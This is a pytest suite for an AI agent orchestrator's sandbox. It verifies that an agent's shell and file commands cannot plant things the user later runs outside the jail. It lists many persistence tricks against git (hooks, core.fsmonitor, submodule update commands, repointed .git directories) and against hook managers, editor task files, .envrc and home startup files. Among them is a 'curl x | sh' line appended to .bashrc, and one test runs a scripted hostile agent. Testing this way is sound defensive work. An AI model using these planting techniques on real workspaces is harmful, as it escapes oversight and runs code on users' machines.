"""What a command leaves behind never runs later outside the sandbox: git's files in every shape, the files
editors and environment tools run, the orchestrator's own configuration and a home's startup files stay
read-only or are set aside, through the real bash tool and file tools with an asker that always denies; then
the user's own git runs in the workspace and nothing planted runs."""
import os
import subprocess
from pathlib import Path

import pytest

from orchestrator.tools import guard, protected
from orchestrator.tools.base import ToolContext, ToolError, ToolOutput
from orchestrator.tools.files import EDIT_FILE, READ_FILE, WRITE_FILE
from orchestrator.tools.jail import backend
from orchestrator.tools.session import ToolSession
from orchestrator.tools.shell import BASH

WHY = backend().unavailable()
needs_jail = pytest.mark.skipif(WHY is not None, reason=f"no OS sandbox here: {WHY}")


class Asker:
    """Answers every question with `answer`; `risks`: what to answer the risk classifier's questions, so a
    test can show the jail holds even when a user lets a risky command run (never the network)."""

    def __init__(self, answer="deny", risks=None):
        self.answer, self.risks, self.calls = answer, risks or answer, []

    async def __call__(self, agent, category, summary):
        self.calls.append((category, summary))
        return self.answer if category.startswith("write:") or category == "network" else self.risks


def ctx(session):
    return ToolContext(agent="dev", call_id="c1", session=session)


async def bash(session, command, **more) -> ToolOutput:
    out = await BASH.run(BASH.parse({"command": command, **more}), ctx(session))
    return out if isinstance(out, ToolOutput) else ToolOutput(out)


def git(ws, *argv, env):
    return subprocess.run(["git", *argv], cwd=ws, env=env, capture_output=True, text=True, errors="replace",
                          timeout=30)


@pytest.fixture
def world(tmp_path, monkeypatch):
    """A workspace that is a git repository, a fake HOME, and a sentinel path outside that a planted hook
    or program would create."""
    home, ws, out = tmp_path / "home", tmp_path / "ws", tmp_path / "outside"
    for p in (home, ws, out):
        p.mkdir()
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1", "LANG": "C.UTF-8",
           "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}
    (ws / "main.py").write_text("print('hi')\n")
    git(ws, "init", "-q", env=env)
    # the user's hook managers, as installed: pre-commit's hook runs the entries of .pre-commit-config.yaml
    # (a stand-in for the framework, which reads that file the same way), and husky's folder of hooks
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\n[ -f .pre-commit-config.yaml ] || exit 0\n"
                    "sed -n 's/^ *entry: //p' .pre-commit-config.yaml | while read -r e; do sh -c \"$e\"; done\n")
    hook.chmod(0o755)
    (ws / ".husky").mkdir()
    (ws / ".husky" / "post-commit").write_text("#!/bin/sh\ntrue\n")
    (ws / ".husky" / "post-commit").chmod(0o755)
    git(ws, "add", "-A", env=env)
    git(ws, "commit", "-qm", "init", env=env)
    monkeypatch.setenv("HOME", str(home))
    return ws, out / "ran", env


def planted_ran(sentinel: Path, ws: Path, env) -> bool:
    """The user's later unsandboxed steps: status, add, commit, a submodule status; did anything planted run?"""
    (ws / "main.py").write_text("print('changed')\n")
    for argv in (["status"], ["add", "-A"], ["commit", "-qm", "work"], ["submodule", "status"], ["diff", "HEAD~1"],
                 ["-c", "core.hooksPath=.husky", "commit", "-qm", "husky", "--allow-empty"]):
        git(ws, *argv, env=env)
    return sentinel.exists()


HOOK = "#!/bin/sh\ntouch {s}\n"

# Each plants, in its own way, something git would run: every one must fail or be set aside.
GIT_ATTACKS = [
    # the hooks and config of the repository itself
    "printf '{hook}' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "git config core.fsmonitor 'touch {s}'",
    "printf '[core]\\n\\tfsmonitor = touch {s}\\n' >> .git/config",
    "git config core.hooksPath hooks2; mkdir hooks2; printf '{hook}' > hooks2/pre-commit; chmod +x hooks2/pre-commit",
    # rename .git away and rebuild it, or move what it holds
    "mv .git g2 && mkdir -p .git && cp -r g2/. .git/ && printf '{hook}' > .git/hooks/pre-commit && "
    "chmod +x .git/hooks/pre-commit",
    "cp -r .git g2 && printf '{hook}' > g2/hooks/pre-commit && chmod +x g2/hooks/pre-commit && rm -rf .git; "
    "mv g2 .git",
    "rm -rf .git; git init -q . && git config core.fsmonitor 'touch {s}'",
    # the pointer shapes: a .git file, commondir, worktrees, modules
    "cp -r .git ../elsewhere-git 2>/dev/null; printf 'gitdir: ../elsewhere-git\\n' > .git",
    "printf '../../evil\\n' > .git/commondir",
    "mkdir -p .git/worktrees/w && printf '[core]\\n\\tfsmonitor = touch {s}\\n' > .git/worktrees/w/config",
    "mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = touch {s}\\n' > .git/modules/sub/config",
    "printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tupdate = !touch {s}\\n' > .gitmodules",
    # git's metadata rebuilt beside the protected one, then pointed at: a copy with a planted config
    "cp -r .git evil && printf '[core]\\n\\tfsmonitor = touch {s}\\n' >> evil/config && rm -rf .git 2>/dev/null; "
    "printf 'gitdir: evil\\n' > .git",
    "cp -r .git evil && printf '[core]\\n\\tfsmonitor = touch {s}\\n' >> evil/config && "
    "printf '../evil\\n' > .git/commondir",
    "mv .git .git-old && mkdir .git && cp -r .git-old/HEAD .git-old/objects .git-old/refs .git/ && "
    "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch {s}\\n' > .git/config",
    "mkdir sub && cp -r .git sub/g && printf '[core]\\n\\tfsmonitor = touch {s}\\n' >> sub/g/config && "
    "printf 'gitdir: g\\n' > sub/.git",
    # hook managers' files
    "printf 'repos:\\n- repo: local\\n  hooks:\\n  - id: x\\n    name: x\\n    entry: touch {s}\\n    language: system\\n'"
    " > .pre-commit-config.yaml",
    "mkdir -p .husky && printf '{hook}' > .husky/pre-commit",
    "printf 'touch {s}\\n' >> .husky/post-commit",
    "mv .husky h2 && mkdir .husky && printf '{hook}' > .husky/post-commit && chmod +x .husky/post-commit",
    "printf 'pre-commit:\\n  commands:\\n    x:\\n      run: touch {s}\\n' > lefthook.yml",
    # a link where .git was, and a new .git where the workspace had none before (a subfolder)
    "mkdir sub && cd sub && git init -q . && git config core.fsmonitor 'touch {s}'",
    "mkdir -p deep/er && git -C deep/er init -q && printf '{hook}' > deep/er/.git/hooks/pre-commit",
]


@needs_jail
@pytest.mark.parametrize("attack", GIT_ATTACKS)
async def test_nothing_planted_in_git_runs_in_the_users_git(world, attack):
    ws, sentinel, env = world
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    command = attack.replace("{hook}", HOOK.replace("\n", "\\n")).replace("{s}", str(sentinel))
    await bash(session, command)
    assert not planted_ran(sentinel, ws, env)
    assert not planted_ran(sentinel, ws / "sub", env) if (ws / "sub").is_dir() else True
    assert not (ws / "deep" / "er").is_dir() or not planted_ran(sentinel, ws / "deep" / "er", env)


@needs_jail
async def test_a_workspace_without_a_repository_gets_no_new_one(tmp_path, monkeypatch):
    ws, sentinel = tmp_path / "ws", tmp_path / "ran"
    ws.mkdir()
    monkeypatch.setenv("HOME", str(tmp_path))
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    out = await bash(session, f"git init -q . && git config core.fsmonitor 'touch {sentinel}' && echo made")
    assert "made" in out.text and "set aside" in out.text and ".git" in out.text
    assert not (ws / ".git").exists()
    assert [p.name for p in ws.iterdir() if p.name.startswith(".git.refused-")]
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_CEILING_DIRECTORIES": str(tmp_path)}
    git(ws, "status", env=env)
    assert not sentinel.exists()


@needs_jail
async def test_the_rename_trick_keeps_the_old_and_sets_the_new_aside(world):
    ws, sentinel, env = world
    git(ws, "init", "-q", "sub", env=env)
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    await bash(session, "true")  # the first look: sub/.git is the user's
    out = await bash(session, f"mv sub sub2 && mkdir sub && git -C sub init -q && "
                              f"git -C sub config core.fsmonitor 'touch {sentinel}'")
    assert (ws / "sub2" / ".git" / "HEAD").is_file()  # a moved repository is still the user's
    assert not (ws / "sub" / ".git").exists() and "set aside" in out.text
    assert not planted_ran(sentinel, ws / "sub", env)


@needs_jail
async def test_git_still_reads_and_writing_it_asks_by_name(world):
    ws, sentinel, env = world
    denied = ToolSession(ws, ask=Asker("deny"))
    out = await bash(denied, "git log --oneline | wc -l && git status --short")
    assert out.text.startswith("1\n")
    out = await bash(denied, "git commit -qam x", writable=[".git"])
    assert "denied" in out.text and ".git" in out.text
    asker = Asker("once")
    allowed = ToolSession(ws, ask=asker)
    (ws / "main.py").write_text("print(2)\n")
    out = await bash(allowed, "git -c user.name=a -c user.email=a@a commit -qam two && echo committed",
                     writable=[".git"])
    assert "committed" in out.text, out.text
    assert any(".git" in summary for _, summary in asker.calls)
    # hooks and config stay protected unless named themselves
    hook = (ws / ".git" / "hooks" / "pre-commit").read_text()
    out = await bash(allowed, f"printf '#!/bin/sh\\ntouch {sentinel}\\n' > .git/hooks/pre-commit", writable=[".git"])
    assert (ws / ".git" / "hooks" / "pre-commit").read_text() == hook


@needs_jail
async def test_a_worktree_pointer_and_the_dirs_it_resolves_are_read_only(world, tmp_path):
    ws, sentinel, env = world
    wt = tmp_path / "wt"
    git(ws, "worktree", "add", "-q", str(wt), env=env)
    assert (wt / ".git").is_file()
    session = ToolSession(wt, ask=Asker("deny", risks="once"))
    cmd = (f"printf '[core]\\n\\tfsmonitor = touch {sentinel}\\n' >> $(git rev-parse --git-common-dir)/config; "
           f"printf '[core]\\n\\tfsmonitor = touch {sentinel}\\n' >> $(git rev-parse --git-dir)/config.worktree; "
           f"printf 'gitdir: /tmp/x\\n' > .git; git status --short >/dev/null && echo git-works")
    out = await bash(session, cmd)
    assert "git-works" in out.text
    assert (wt / ".git").read_text().startswith("gitdir: ") and "/tmp/x" not in (wt / ".git").read_text()
    assert not planted_ran(sentinel, wt, env)


@needs_jail
async def test_programs_and_includes_the_users_git_config_names_are_read_only(world):
    ws, sentinel, env = world
    (ws / "tools").mkdir()
    (ws / "tools" / "fsmon.sh").write_text("#!/bin/sh\nexit 0\n")
    (ws / "tools" / "fsmon.sh").chmod(0o755)
    (ws / "shared.gitconfig").write_text("[alias]\n\tst = status\n")
    git(ws, "config", "core.fsmonitor", "tools/fsmon.sh", env=env)
    git(ws, "config", "include.path", "../shared.gitconfig", env=env)
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    await bash(session, f"printf '#!/bin/sh\\ntouch {sentinel}\\n' > tools/fsmon.sh; "
                        f"printf '[core]\\n\\tpager = touch {sentinel}\\n' >> shared.gitconfig")
    assert "touch" not in (ws / "tools" / "fsmon.sh").read_text()
    assert "pager" not in (ws / "shared.gitconfig").read_text()
    assert not planted_ran(sentinel, ws, env)


OPENED = [".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/devcontainer.json", ".devcontainer.json",
          ".envrc", ".idea/workspace.xml", "app.code-workspace", "sub/.vscode/tasks.json", ".zed/tasks.json",
          "mise.toml", ".exrc"]
OWN = ["agents/commander.md", "agents/helper.md", ".agents/skills/evil/SKILL.md", "sub/.agents/skills/x/SKILL.md"]


@needs_jail
@pytest.mark.parametrize("rel", OPENED + OWN)
async def test_files_other_tools_run_are_set_aside_when_a_command_makes_them(world, rel):
    ws, _, _ = world
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    out = await bash(session, f"mkdir -p $(dirname {rel}) && echo '{{\"x\": 1}}' > {rel}")
    assert not (ws / rel).exists(), out.text
    assert "set aside" in out.text


@needs_jail
@pytest.mark.parametrize("rel", [".vscode/tasks.json", ".envrc", "agents/commander.md", ".agents/skills/a/SKILL.md"])
async def test_existing_ones_are_read_only_in_the_jail(world, rel):
    ws, _, _ = world
    (ws / rel).parent.mkdir(parents=True, exist_ok=True)
    (ws / rel).write_text("the user's\n")
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    await bash(session, f"echo planted > {rel}; echo planted >> {rel}; rm -rf {rel.split('/')[0]}; "
                        f"mv {rel.split('/')[0]} moved")
    assert (ws / rel).read_text() == "the user's\n"


@pytest.mark.parametrize("rel", [".git/config", ".git/hooks/pre-commit", ".gitmodules", ".husky/pre-commit",
                                 ".pre-commit-config.yaml", "sub/.git/HEAD", *OPENED, *OWN])
async def test_the_file_tools_ask_before_writing_them(world, rel):
    ws, _, _ = world
    session = ToolSession(ws, ask=Asker("deny"))
    with pytest.raises(ToolError, match="refused"):
        await WRITE_FILE.run(WRITE_FILE.parse({"path": rel, "content": "x"}), ctx(session))
    assert not (ws / rel).exists() or rel.startswith(".git/")
    asker = Asker("once")
    session = ToolSession(ws, ask=asker)
    if rel.startswith(".git/") and (ws / rel).exists():
        await READ_FILE.run(READ_FILE.parse({"path": rel}), ctx(session))
    out = await WRITE_FILE.run(WRITE_FILE.parse({"path": rel, "content": "x"}), ctx(session))
    assert "created" in out or "overwrote" in out
    assert asker.calls and asker.calls[0][0] == f"write:{ws / rel}"


async def test_edit_file_asks_too(world):
    ws, _, _ = world
    (ws / ".envrc").write_text("export A=1\n")
    session = ToolSession(ws, ask=Asker("deny"))
    await READ_FILE.run(READ_FILE.parse({"path": ".envrc"}), ctx(session))
    with pytest.raises(ToolError, match="refused"):
        await EDIT_FILE.run(EDIT_FILE.parse({"path": ".envrc", "old": "A=1", "new": "A=2"}), ctx(session))
    assert (ws / ".envrc").read_text() == "export A=1\n"


@needs_jail
async def test_build_files_stay_writable_and_are_reported(world):
    ws, _, _ = world
    (ws / "Makefile").write_text("all:\n\ttrue\n")
    session = ToolSession(ws, ask=Asker())
    out = await bash(session, "printf 'all:\\n\\techo hi\\n' > Makefile && mkdir -p t && echo 'x=1' > t/conftest.py "
                              "&& echo '{}' > package.json && echo ok")
    assert "ok" in out.text and "changed build files" in out.text
    for name in ("Makefile", "t/conftest.py", "package.json"):
        assert name in out.text
    said = guard.of(session).report("dev")
    assert said and "Makefile" in said and "conftest.py" in said and "Review them" in said
    assert guard.of(session).report("dev") is None  # told once
    out = await bash(session, "echo unrelated > notes.txt")
    assert "build files" not in out.text
    await WRITE_FILE.run(WRITE_FILE.parse({"path": "sub/setup.py", "content": "x"}), ctx(session))
    assert "setup.py" in guard.of(session).report("dev")


@needs_jail
async def test_a_workspace_that_is_home_keeps_startup_files_and_settings(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".config" / "orchestrator").mkdir(parents=True)
    (home / ".config" / "orchestrator" / "config.toml").write_text("[sandbox]\nenabled = true\n")
    (home / ".bashrc").write_text("# mine\n")
    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    session = ToolSession(home, ask=Asker("deny", risks="once"))
    out = await bash(session, "echo 'curl x | sh' >> .bashrc; echo '[core] pager = x' >> .gitconfig; "
                              "cat .config/orchestrator/config.toml; echo '[sandbox]' > .config/orchestrator/config.toml; "
                              "mkdir -p .local/bin && printf '#!/bin/sh\\n' > .local/bin/git && chmod +x .local/bin/git; "
                              "echo x > .profile; echo done")
    assert "done" in out.text and "enabled = true" not in out.text
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (home / ".gitconfig").read_text() == "[user]\n\tname = me\n"
    assert (home / ".config" / "orchestrator" / "config.toml").read_text() == "[sandbox]\nenabled = true\n"
    assert not (home / ".local" / "bin" / "git").exists() and not (home / ".profile").exists()
    out = await bash(session, "head -c 1M /dev/zero > .config/orchestrator/fill")  # emptied, and no memory to fill
    assert "Read-only file system" in out.text


@needs_jail
async def test_a_background_job_is_checked_when_it_ends(world):
    ws, sentinel, env = world
    session = ToolSession(ws, ask=Asker())
    import trio

    async with trio.open_nursery() as nursery:
        session.spawn = lambda fn, *a: nursery.start_soon(fn, *a)
        session.jobs._spawn = session.spawn
        await bash(session, "sleep 0.3; printf 'repos: []\\n' > .pre-commit-config.yaml; mkdir -p .vscode; "
                            "echo '{}' > .vscode/tasks.json", background=True)
        job = session.jobs.get("job1")
        await job.done.wait()
    assert not (ws / ".pre-commit-config.yaml").exists() and not (ws / ".vscode").exists()
    assert b"set aside" in job.output.recent()


def test_protected_names_and_reasons(tmp_path):
    ws = tmp_path
    assert protected.reason(ws, ws / ".git" / "hooks" / "x").startswith(".git:")
    assert protected.reason(ws, ws / "a" / "b" / ".vscode" / "tasks.json").startswith("a/b/.vscode:")
    assert protected.reason(ws, ws / "agents" / "x.md")
    assert protected.reason(ws, ws / "src" / "agents" / "x.py") is None  # only the workspace's own agents/
    assert protected.reason(ws, ws / "src" / "main.py") is None
    assert protected.reason(ws, ws / "x.code-workspace")
    assert protected.is_build("Makefile") and protected.is_build("rules.mk") and not protected.is_build("main.py")


@needs_jail
async def test_a_venv_on_path_brings_its_base_python_and_not_its_neighbours(tmp_path, monkeypatch):
    import sys

    home = tmp_path / "home"
    proj, other = home / "src" / "proj", home / "src" / "other"
    other.mkdir(parents=True)
    (other / ".env").write_text("NEIGHBOUR=secret\n")
    proj.mkdir()
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(proj / ".venv")], check=True, timeout=120)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{proj / '.venv' / 'bin'}:/usr/local/bin:/usr/bin:/bin")
    ws = tmp_path / "ws"
    ws.mkdir()
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    out = await bash(session, f"python -c 'import json, sys; print(json.dumps(sys.prefix))'; "
                              f"cat {other / '.env'} || echo no-neighbour; ls {home / 'src'}")
    assert str(proj / ".venv") in out.text, out.text
    assert "no-neighbour" in out.text and "secret" not in out.text and "other" not in out.text.split("no-neighbour")[1]


@needs_jail
async def test_the_rooms_database_is_invisible_wherever_it_is(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    ws = tmp_path / "ws"
    ws.mkdir()
    db = ws / "state" / "rooms.db"
    db.parent.mkdir()
    for suffix in ("", "-wal", "-shm"):
        Path(f"{db}{suffix}").write_text("SECRET-ROW\n")
    session = ToolSession(ws, ask=Asker(), private=tuple(Path(f"{db}{s}") for s in ("", "-wal", "-shm")))
    out = await bash(session, "cat state/rooms.db state/rooms.db-wal state/rooms.db-shm; "
                              "echo INSERTED > state/rooms.db; rm -f state/rooms.db-wal; echo end")
    assert "SECRET-ROW" not in out.text and "end" in out.text
    assert db.read_text() == "SECRET-ROW\n" and Path(f"{db}-wal").exists()
    with pytest.raises(ToolError, match="database"):
        await READ_FILE.run(READ_FILE.parse({"path": "state/rooms.db"}), ctx(session))


@needs_jail
async def test_a_running_background_job_is_patrolled(world, monkeypatch):
    import trio

    from orchestrator.tools import shell

    monkeypatch.setattr(shell, "PATROL", 0.2)
    ws, _, _ = world
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    async with trio.open_nursery() as nursery:
        session.spawn = lambda fn, *a: nursery.start_soon(fn, *a)
        session.jobs._spawn = session.spawn
        await bash(session, "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json && sleep 30",
                   background=True)
        with trio.fail_after(20):
            while not list(ws.glob(".devcontainer.refused-*")):  # made by the job, then set aside
                await trio.sleep(0.05)
        assert not (ws / ".devcontainer").exists()
        assert session.jobs.get("job1").ended is None  # set aside while it still runs
        await session.jobs.kill("job1")


@needs_jail
def test_a_scripted_agent_through_the_real_cli_plants_nothing_the_users_git_runs(world, tmp_path):
    """Every git attack above as one scripted agent's bash calls in a scenario, run by `orchestrator run`
    (nobody to ask: every question is denied); then the user's own git in that workspace."""
    import json
    import sys

    ws, sentinel, env = world
    calls = [{"call": {"bash": {"command": a.replace("{hook}", HOOK.replace("\n", "\\n")).replace("{s}", str(sentinel))}}}
             for a in GIT_ATTACKS]
    calls += [{"call": {"write_file": {"path": p, "content": f"touch {sentinel}\n"}}}
              for p in (".git/hooks/post-commit", ".husky/pre-commit", ".vscode/tasks.json")]
    scenario = {"name": "hostile", "team": {"commander": {"tools": ["bash", "write_file"]}},
                "models": {"commander": [*calls, {"say": "done"}]}, "turns": [{"user": "go"}]}
    path = tmp_path / "hostile.yaml"
    path.write_text(json.dumps(scenario))  # JSON is YAML
    home = Path(env["HOME"])
    run_env = {**env, "XDG_DATA_HOME": str(home / "data"), "XDG_CONFIG_HOME": str(home / "config")}
    done = subprocess.run([sys.executable, "-m", "orchestrator", "run", str(path), "--workspace", str(ws)],
                          env=run_env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
    assert not planted_ran(sentinel, ws, env)
    for sub in ("sub", "deep/er"):
        if (ws / sub).is_dir():
            assert not planted_ran(sentinel, ws / sub, env)


@needs_jail
async def test_a_protected_name_linked_or_pointed_outside_shows_nothing_of_it(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    ws, other = tmp_path / "ws", tmp_path / "other"
    (other / "secrets").mkdir(parents=True)
    (other / "secrets" / "key").write_text("OUTSIDE-SECRET\n")
    subprocess.run(["git", "init", "-q", str(other / "repo")], check=True)
    (other / "repo" / "notes").write_text("OUTSIDE-SECRET\n")
    subprocess.run(["git", "-C", str(other / "repo"), "add", "notes"], check=True)
    ws.mkdir()
    (ws / ".vscode").symlink_to(other / "secrets")
    (ws / "sub").mkdir()
    (ws / "sub" / ".git").write_text(f"gitdir: {other / 'repo' / '.git'}\n")  # names no worktree of it
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    out = await bash(session, f"cat .vscode/key {other}/secrets/key; ls {other}; git -C sub show :notes; echo end")
    assert "OUTSIDE-SECRET" not in out.text and "end" in out.text


@needs_jail
async def test_scripts_the_users_hooks_run_are_read_only(world):
    """A hook that runs a script of the workspace runs what an agent writes there: such scripts are protected
    like the hooks themselves, whichever manager names them."""
    ws, sentinel, env = world
    (ws / "scripts").mkdir()
    for name in ("lint.sh", "check.py", "fmt.sh"):
        (ws / "scripts" / name).write_text("#!/bin/sh\ntrue\n")
        (ws / "scripts" / name).chmod(0o755)
    hook = ws / ".git" / "hooks" / "pre-push"
    hook.write_text("#!/bin/sh\n./scripts/lint.sh && python3 scripts/check.py\n")
    (ws / ".husky" / "post-commit").write_text("#!/bin/sh\nsh scripts/fmt.sh\n")
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    out = await bash(session, "for f in scripts/lint.sh scripts/check.py scripts/fmt.sh; do "
                              f"printf '#!/bin/sh\\ntouch {sentinel}\\n' > $f; done; echo tried")
    assert "tried" in out.text and "Read-only file system" in out.text
    for name in ("lint.sh", "check.py", "fmt.sh"):
        assert (ws / "scripts" / name).read_text() == "#!/bin/sh\ntrue\n"
    out = await bash(session, "echo '# mine' >> main.py && echo ok")  # the rest stays writable
    assert "ok" in out.text


@needs_jail
async def test_a_command_started_meanwhile_does_not_make_anothers_leftovers_the_users(world):
    import trio

    ws, _, _ = world
    session = ToolSession(ws, ask=Asker("deny", risks="once"))
    async with trio.open_nursery() as nursery:
        nursery.start_soon(bash, session, "mkdir .vscode && echo '{}' > .vscode/tasks.json && sleep 1.5")
        with trio.fail_after(20):
            while not (ws / ".vscode").exists():
                await trio.sleep(0.02)
        await bash(session, "true")  # its look before meets the other's .vscode
    assert not (ws / ".vscode").exists() and list(ws.glob(".vscode.refused-*"))
